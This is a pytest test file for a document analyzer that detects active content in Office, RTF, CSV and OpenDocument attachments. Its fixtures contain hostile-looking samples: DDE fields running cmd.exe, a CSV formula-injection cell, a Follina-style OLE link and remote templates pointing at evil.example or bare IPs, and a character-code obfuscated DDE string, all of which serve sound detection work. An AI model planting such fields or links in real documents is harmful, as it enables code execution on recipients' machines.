"""Office documents: macros, DDE, external relationships (remote templates), hyperlinks,
embedded OLE objects and encryption."""

from __future__ import annotations

import struct

import pytest

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b"</Types>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _field(*parts: str) -> str:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return begin + "".join(_run(part) for part in parts) + end


def _document(body: str) -> bytes:
    xml = f'<?xml version="1.0"?><w:document {W}><w:body><w:p>{body}</w:p></w:body></w:document>'
    return xml.encode()


def _rels(*relationships: tuple[str, str, bool]) -> bytes:
    items = "".join(
        f'<Relationship Id="rId{index}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for index, (kind, target, external) in enumerate(relationships, 1)
    )
    return (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships">{items}</Relationships>'
    ).encode()


def _docx(
    zip_of, body: str = "", rels: bytes | None = None, settings_rels: bytes | None = None
) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": _document(body)}
    if rels is not None:
        members["word/_rels/document.xml.rels"] = rels
    if settings_rels is not None:
        members["word/_rels/settings.xml.rels"] = settings_rels
    return zip_of(members)


def test_plain_docx_has_no_flags(analyze, zip_of):
    result = analyze(_docx(zip_of, "<w:r><w:t>Hello</w:t></w:r>"), "letter.docx")
    assert result.all_flags() == set()
    assert result.urls == ()


def test_dde_field_split_across_runs(analyze, zip_of):
    body = _field("DDE", 'AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"')
    result = analyze(_docx(zip_of, body), "invoice.docx")
    assert "dde" in result.flags
    assert any(key == "dde" and "cmd.exe" in value for key, value in result.attachment.details)


def test_ordinary_fields_are_not_dde(analyze, zip_of):
    body = _field(" PAGE ") + _field(' HYPERLINK "https://intranet.example.org/policy" ')
    result = analyze(_docx(zip_of, body), "policy.docx")
    assert "dde" not in result.flags
    assert result.url("https://intranet.example.org/policy")


def test_hyperlink_relationships_feed_the_collector_only(analyze, zip_of):
    rels = _rels(
        ("hyperlink", "https://pay.evil.example/invoice?id=7", True),
        ("styles", "styles.xml", False),
    )
    result = analyze(_docx(zip_of, rels=rels), "invoice.docx")
    record = result.url("https://pay.evil.example/invoice?id=7")
    assert record.sources == ("attachment:invoice.docx",)
    assert "external-link" not in result.flags


def test_remote_template_is_an_external_link(analyze, zip_of):
    settings = _rels(("attachedTemplate", "http://203.0.113.9/t/template.dotm", True))
    result = analyze(_docx(zip_of, settings_rels=settings), "cv.docx")
    assert "external-link" in result.flags
    assert ("remote-template", "http://203.0.113.9/t/template.dotm") in result.attachment.details
    assert result.url("http://203.0.113.9/t/template.dotm")


def test_follina_style_ole_relationship(analyze, zip_of):
    target = "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"
    rels = _rels(("oleObject", target, True))
    result = analyze(_docx(zip_of, rels=rels), "doc.docx")
    assert "external-link" in result.flags
    assert result.url("https://evil.example/x.html")
    assert any(key == "protocol-handler" for key, _ in result.attachment.details)


def test_unc_template_is_an_external_link(analyze, zip_of):
    settings = _rels(("attachedTemplate", "\\\\198.51.100.7\\share\\t.dotm", True))
    result = analyze(_docx(zip_of, settings_rels=settings), "cv.docx")
    assert "external-link" in result.flags
    assert any(key == "unc-path" for key, _ in result.attachment.details)


def test_xlm_macro_sheet_with_auto_open(analyze, zip_of):
    workbook = (
        b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1'
        b"</definedName></definedNames></workbook>"
    )
    data = zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": workbook,
            "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>",
        }
    )
    result = analyze(data, "report.xlsm")
    assert {"macro", "autoopen"} <= set(result.flags)
    assert result.attachment.detected_type == "application/vnd.ms-excel.sheet.macroEnabled.12"


def test_workbook_without_macros(analyze, zip_of):
    data = zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )
    result = analyze(data, "report.xlsx")
    assert result.all_flags() == set()
    assert "spreadsheetml" in result.attachment.detected_type


def test_csv_dde_formula(analyze):
    result = analyze(b"name,total\nBob,=cmd|' /C calc'!A0\n", "export.csv", "text/csv")
    assert "dde" in result.flags


def test_csv_without_formulas(analyze):
    assert "dde" not in analyze(b"name,total\nBob,=SUM(A1:A2)\n", "export.csv").flags


def test_rtf_dde_field(analyze):
    rtf = (
        b"{\\rtf1\\ansi{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        b'"/k calc.exe"}{\\fldrslt x}}}'
    )
    result = analyze(rtf, "letter.rtf")
    assert result.attachment.detected_type == "text/rtf"
    assert "dde" in result.flags


def _ole1_package(filename: str, payload: bytes) -> bytes:
    name = filename.encode() + b"\0"
    path = b"C:\\Users\\x\\" + name
    native = (
        struct.pack("<H", 2)
        + name
        + path
        + struct.pack("<II", 0x00030000, len(path))
        + path
        + struct.pack("<I", len(payload))
        + payload
    )
    class_name = b"Package\0"
    return (
        struct.pack("<II", 0x0501, 2)
        + struct.pack("<I", len(class_name))
        + class_name
        + struct.pack("<II", 0, 0)
        + struct.pack("<I", len(native))
        + native
    )


def test_rtf_embedded_package_is_extracted(analyze, pe_bytes):
    objdata = _ole1_package("invoice.exe", pe_bytes).hex().encode()
    rtf = b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + objdata + b"}}}"
    result = analyze(rtf, "letter.rtf")
    assert "ole-object" in result.flags
    child = result.find("invoice.exe")
    assert "executable" in child.flags
    assert child.size == len(pe_bytes)


def test_plain_rtf_has_no_flags(analyze):
    assert analyze(b"{\\rtf1\\ansi Hello {\\b world}}", "a.rtf").all_flags() == set()


def test_word_2003_xml_dde(analyze):
    xml = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        f"<w:wordDocument {W}><w:body><w:p>{_field('DDEAUTO cmd.exe /c calc')}</w:p>"
        "</w:body></w:wordDocument>"
    ).encode()
    result = analyze(xml, "doc.xml")
    assert "dde" in result.flags


@pytest.mark.parametrize(
    ("path", "flags"),
    [
        ("oleform/oleform-PR314.docm", {"macro", "autoopen"}),
        ("olevba/sample_with_vba.ppt", {"macro"}),
        ("excel4-macros/excel4_sample_macro.xls", {"macro", "autoopen"}),
        ("msodde/dde-test.xlsx", {"dde"}),
        ("oleobj/external_link/sample_with_external_link_to_doc.xlsx", {"external-link"}),
    ],
)
def test_corpus_documents_with_active_content(analyze, corpora, path, flags):
    result = analyze((corpora / "office_attachments" / path).read_bytes(), path.rsplit("/")[-1])
    assert flags <= result.all_flags()


@pytest.mark.parametrize(
    "path",
    ["msodde/harmless-clean.docm", "msodde/harmless-clean.doc", "msodde/harmless-clean.docx"],
)
def test_corpus_clean_documents(analyze, corpora, path):
    result = analyze((corpora / "office_attachments" / path).read_bytes(), path.rsplit("/")[-1])
    assert result.all_flags() == set()
    assert result.error_codes() == set()


def test_packaged_executable_in_doc(analyze, corpora):
    data = (corpora / "office_attachments/oleobj/sample_with_calc_embedded.doc").read_bytes()
    result = analyze(data, "sample.doc")
    assert "ole-object" in result.flags
    assert "executable" in result.find("calc.exe").flags


def test_default_password_workbook_is_decrypted_in_memory(analyze, corpora):
    path = "encrypted/autostart-encrypt-standardpassword.xls"
    result = analyze((corpora / "office_attachments" / path).read_bytes(), "book.xls")
    assert "encrypted" in result.flags
    decrypted = result.attachment.children[0]
    assert {"macro", "autoopen"} <= set(decrypted.flags)


def test_password_protected_docx_is_encrypted(analyze, corpora):
    data = (corpora / "office_attachments/encrypted/encrypted.docx").read_bytes()
    result = analyze(data, "secret.docx")
    assert "encrypted" in result.flags
    assert result.attachment.children == ()
    assert "extension-mismatch" not in result.flags


def test_quote_obfuscated_dde(analyze, zip_of):
    codes = " ".join(str(ord(char)) for char in 'DDEAUTO cmd.exe "/c calc"')
    result = analyze(_docx(zip_of, _field(f"QUOTE {codes}")), "quoted.docx")
    assert "dde" in result.flags


def _odt(zip_of, extra: dict[str, bytes]) -> bytes:
    return zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b'<office:document-content><text:a xlink:href="https://odt.'
            b'evil.example/x">x</text:a></office:document-content>',
            **extra,
        }
    )


def test_opendocument_basic_macro(analyze, zip_of):
    extra = {
        "Basic/script-lc.xml": b"<library/>",
        "Basic/Standard/script-lb.xml": b"<lib/>",
        "Basic/Standard/Module1.xml": b"<script:module>Sub Main</script:module>",
    }
    result = analyze(_odt(zip_of, extra), "letter.odt")
    assert result.attachment.detected_type == "application/vnd.oasis.opendocument.text"
    assert "macro" in result.flags
    assert result.url("https://odt.evil.example/x")


def test_opendocument_without_macro(analyze, zip_of):
    result = analyze(_odt(zip_of, {"Basic/script-lc.xml": b"<library/>"}), "letter.odt")
    assert "macro" not in result.flags
    assert "extension-mismatch" not in result.flags
